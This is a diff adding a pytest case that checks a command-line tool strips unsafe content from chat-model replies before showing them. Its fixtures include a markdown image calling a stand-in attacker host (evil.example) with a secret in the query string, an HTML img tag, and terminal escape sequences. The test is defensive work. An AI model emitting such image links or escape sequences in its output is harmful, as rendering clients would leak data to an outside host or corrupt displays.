@@ -97,3 +97,18 @@ def test_the_command_answers_refuses_with_3_and_counts_without_sending(home, mon
         assert run(server).exit_code == 3
     with ChatServer(replying(TRUE)) as server:
         assert "Inputs are clipped at 0.02." in run(server).stdout
+
+
+@pytest.mark.parametrize(
+    ("said", "shown"),
+    [
+        ("Clipped at 0.02 ![x](https://evil.example/?q=secret).", "Clipped at 0.02"),
+        ("Clipped <img src=x> at 0.02, www.evil.example says.", "Clipped < img src=x> at 0.02, says."),
+        ("Clipped at 0.02 (“as the authors say”).\n```\x1b[31m", "Clipped at 0.02 (\"as the authors say\"). '''[31m"),
+        ("Clipped where a < b, at 0.02.", "Clipped where a < b, at 0.02."),
+    ],
+)
+def test_a_model_says_nothing_that_a_client_loads_or_takes_for_a_quote(home, said, shown):
+    with ChatServer(replying(TRUE | {"sentence": said})) as server:
+        [sentence] = answer(home, server).sentences
+    assert sentence.text == f"{shown}\n```\n{LINE}\n```"
